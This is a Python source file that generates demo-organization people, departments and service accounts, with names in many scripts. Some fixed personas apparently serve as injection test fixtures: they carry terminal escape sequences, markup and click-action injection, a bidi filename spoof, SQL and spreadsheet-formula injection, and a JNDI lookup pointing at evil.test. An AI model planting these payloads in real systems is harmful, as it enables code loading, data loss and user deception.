"""What the people of the demo org are called: names of many scripts, and some that are out to break a screen."""

from __future__ import annotations

from dataclasses import dataclass

Pair = tuple[str, str]
"""A name, and how it is written in a login."""


def _latin(text: str) -> tuple[Pair, ...]:
    """`Zoë=zoe Ana`: names with their spelling for logins where it is not just lower case."""
    pairs = []
    for word in text.split():
        name, _, plain = word.partition("=")
        pairs.append((name.replace("_", " "), plain or name.lower()))
    return tuple(pairs)


@dataclass(frozen=True, slots=True)
class Pool:
    """First and last names that go together."""

    weight: int
    first: tuple[Pair, ...]
    last: tuple[Pair, ...]


POOLS = (
    Pool(
        34,
        _latin(
            "Alice Amelia Andrew Anna Ben Charlotte Chloe Claire Daniel David Emma Ethan Grace Hannah Harry Isaac Jack"
            " James Julia Kate Laura Leo Lucas Lucy Mark Megan Michael Nathan Nina Oliver Owen Paul Peter Rachel Robert"
            " Ruth Samuel Sarah Sophie Thomas Victor William Maeve Aoife Callum Rhys Morgan Quinn Riley"
        ),
        _latin(
            "Adams Baker Bennett Brooks Brown Campbell Carter Clark Collins Cooper Davis Edwards Evans Fisher Foster"
            " Gray Green Hall Harris Hill Hughes Jackson Johnson Kelly King Lewis Martin Mitchell Moore Morris Murphy"
            " Nelson O'Brien=obrien O'Neill=oneill Palmer Parker Phillips Price Reed Rogers Scott Shaw Smith Stone"
            " Taylor Turner Walker Ward Watson Wood Wright Young"
        ),
    ),
    Pool(
        10,
        _latin(
            "José=jose Lucía=lucia María=maria Ángel=angel Sofía=sofia Íñigo=inigo Carmen Diego Elena Pablo"
            " Begoña=begona"
        ),
        _latin(
            "García=garcia Fernández=fernandez Muñoz=munoz Núñez=nunez Peña=pena Ibáñez=ibanez Ruiz Vega"
            " Álvarez=alvarez de_la_Cruz=delacruz"
        ),
    ),
    Pool(
        9,
        _latin(
            "Jürgen=juergen Käthe=kaethe Søren=soeren Åsa=asa Łukasz=lukasz Małgorzata=malgorzata Zoë=zoe Chloé=chloe"
            " François=francois Dvořák=dvorak Eŭgeno=eugeno Ágnes=agnes"
        ),
        _latin(
            "Müller=mueller Groß=gross Ødegård=odegard Åberg=aberg Wójcik=wojcik Szczęsny=szczesny Lefèvre=lefevre"
            " Björnsdóttir=bjornsdottir Kovács=kovacs Őry=ory Černý=cerny"
        ),
    ),
    Pool(
        10,
        _latin("Aarav Ananya Deepak Ishaan Kavya Meera Nikhil Priya Rahul Rohan Sanjay Shreya Vikram Anjali"),
        _latin("Agarwal Banerjee Chopra Desai Gupta Iyer Joshi Kapoor Mehta Nair Patel Rao Reddy Sharma Singh"),
    ),
    Pool(
        7,
        _latin("Adaeze Amara Chinedu Emeka Femi Kwame Ngozi Oluwaseun Tunde Zanele Thabo Wanjiru"),
        _latin("Adebayo Adeyemi Balogun Dlamini Eze Mensah Nwosu Obi Okeke Okonkwo Mwangi Ndlovu"),
    ),
    Pool(
        4,
        _latin("Nguyễn=nguyen Thị=thi Đức=duc Hương=huong Quỳnh=quynh Tuấn=tuan"),
        _latin("Trần=tran Lê=le Phạm=pham Hoàng=hoang Đặng=dang Vũ=vu"),
    ),
    Pool(
        4,
        _latin("İpek=ipek Çağla=cagla Şule=sule Oğuz=oguz Gül=gul Emre"),
        _latin("Yılmaz=yilmaz Öztürk=ozturk Şahin=sahin Çelik=celik Kaya Işık=isik"),
    ),
    Pool(
        6,
        _latin("Юлия=yulia Дмитрий=dmitry Олена=olena Андрій=andrii Наталья=natalya Сергей=sergey Жанна=zhanna"),
        _latin("Иванова=ivanova Шевченко=shevchenko Кузнецов=kuznetsov Ковальчук=kovalchuk Щербак=shcherbak"),
    ),
    Pool(
        2,
        _latin("Ελένη=eleni Γιώργος=giorgos Νίκος=nikos Αθηνά=athina"),
        _latin("Παπαδόπουλος=papadopoulos Γεωργίου=georgiou Οικονόμου=oikonomou"),
    ),
    Pool(
        5,
        _latin("小明=xiaoming 丽=li 伟=wei 芳=fang 志强=zhiqiang 雅婷=yating"),
        _latin("王=wang 李=li 张=zhang 陈=chen 欧阳=ouyang 林=lin"),
    ),
    Pool(
        4,
        _latin("さくら=sakura 健太=kenta 美咲=misaki ハルカ=haruka 翔=sho"),
        _latin("佐藤=sato 鈴木=suzuki 高橋=takahashi 渡辺=watanabe 小笠原=ogasawara"),
    ),
    Pool(2, _latin("민준=minjun 서연=seoyeon 지우=jiwoo"), _latin("김=kim 이=lee 박=park 최=choi")),
    Pool(
        2,
        _latin("محمد=mohammed فاطمة=fatima ليلى=layla عمر=omar"),
        _latin("الحسن=alhassan الخطيب=alkhatib منصور=mansour"),
    ),
    Pool(1, _latin("נועה=noa יעל=yael דוד=david"), _latin("כהן=cohen לוי=levi מזרחי=mizrahi")),
    Pool(1, _latin("สมชาย=somchai มาลี=malee"), _latin("ศรีสุข=srisuk แก้วใส=kaewsai")),
    Pool(1, _latin("अदिति=aditi क्षितिज=kshitij"), _latin("त्रिपाठी=tripathi शर्मा=sharma")),
)

DEPARTMENTS = (
    ("Engineering", 30),
    ("Sales", 16),
    ("Support", 12),
    ("Finance", 8),
    ("Marketing", 8),
    ("Operations", 8),
    ("People", 5),
    ("Product", 5),
    ("IT", 4),
    ("Security", 2),
    ("Legal", 2),
)
TITLES = {
    "Engineering": ("Software Engineer", "Senior Software Engineer", "Staff Engineer", "Engineering Manager", "SRE"),
    "Sales": ("Account Executive", "Sales Engineer", "Regional Director"),
    "Support": ("Support Engineer", "Support Lead"),
    "Finance": ("Accountant", "Controller", "Treasury Analyst"),
    "Marketing": ("Content Strategist", "Campaign Manager"),
    "Operations": ("Facilities Manager", "Program Manager"),
    "People": ("Recruiter", "HR Business Partner"),
    "Product": ("Product Manager", "Product Designer"),
    "IT": ("Systems Administrator", "IT Support Specialist"),
    "Security": ("Security Analyst", "Detection Engineer", "Incident Responder"),
    "Legal": ("Counsel", "Paralegal"),
}
CITIES = (
    ("San Francisco", "US", "America/Los_Angeles"),
    ("New York", "US", "America/New_York"),
    ("London", "GB", "Europe/London"),
    ("München", "DE", "Europe/Berlin"),
    ("Kraków", "PL", "Europe/Warsaw"),
    ("Lagos", "NG", "Africa/Lagos"),
    ("Bengaluru", "IN", "Asia/Kolkata"),
    ("東京", "JP", "Asia/Tokyo"),
    ("São Paulo", "BR", "America/Sao_Paulo"),
    ("Київ", "UA", "Europe/Kyiv"),
)
SERVICES = (
    "backup",
    "jenkins",
    "terraform",
    "okta-sync",
    "snowflake",
    "scanner",
    "payroll",
    "mailrelay",
    "monitoring",
    "salesforce",
    "workday",
    "vault",
)
"""What service accounts are for: their logins start with `svc-`."""


@dataclass(frozen=True, slots=True)
class Persona:
    """A person that every org has, whatever its seed. Text is as it stands: some of it is hostile on purpose."""

    login: str
    first: str | None
    last: str | None
    department: str = "Engineering"
    title: str | None = None
    kind: str = "employee"
    status: str = "ACTIVE"
    display: str | None = None


OPERATOR = Persona("sam.okafor", "Sam", "Okafor", "Security", "Incident Responder", "admin")
"""The account behind the demo org's token."""

PERSONAS = (
    OPERATOR,
    Persona("mallory.reyes", "Mallory", "Reyes", "Finance", "Treasury Analyst"),
    Persona("ines.castro", "Inês", "Castro", "IT", "Identity Engineer", "admin"),
    Persona("kenji.mori", "健二", "森", "IT", "Systems Administrator", "admin"),
    Persona("dana.whitfield", "Dana", "Whitfield", "Security", "CISO", "admin"),
    Persona("breakglass-1", "Break Glass", "One", "Security", None, "break glass"),
    Persona("breakglass-2", "Break Glass", "Two", "Security", None, "break glass"),
    Persona("mark.up", "[/x]", "[bold red]Up[/]", title="[link=http://evil.test]CEO[/link]", display="[/x] [b]Up"),
    Persona("click.quit", "[@click=app.quit]Click", "here[/]", "Support"),
    Persona("esc.ape", "\x1b[31mEsc\x1b[0m\x1b[2J", "\x1b]52;c;ZXZpbA==\x07Ape", "Sales", "\x1b]0;owned\x07Rep"),
    Persona("bidi.override", "Ali\u202egnp.exe", "\u2066Mallet\u2069\u200f", "Legal"),
    Persona("conor.buzz", 'Conor "Buzz"', "O'Neil\\Smith", "Sales", "VP; DROP TABLE users; --"),
    Persona("for.mula", '=HYPERLINK("http://evil.test","pay")', "+1+1", "Finance", "@SUM(A1:A9)", display="-2+3"),
    Persona("ryunosuke.shoji", "龍之介", "東海林", "Product", "プロダクトマネージャー"),
    Persona("zoe.fox", "👩‍🚒 Zoë", "🦊🇯🇵", "Marketing", "☕ Chief Emoji Officer"),
    Persona("zero.width", "Z\u0335\u0321a\u200bl\u200dgo", "\u2028Line\tTab\nNew", "Support"),
    Persona("long.name", "Wolfeschlegelsteinhausenbergerdorffwelchevoraltern", "株式会社" * 12, "Legal", "長" * 128),
    Persona("pele", None, None, "Marketing", None, display="Pelé"),
    Persona("plus+tag", "Plus", "Tag %s {0} ${jndi:ldap://evil.test}", "Engineering"),
)
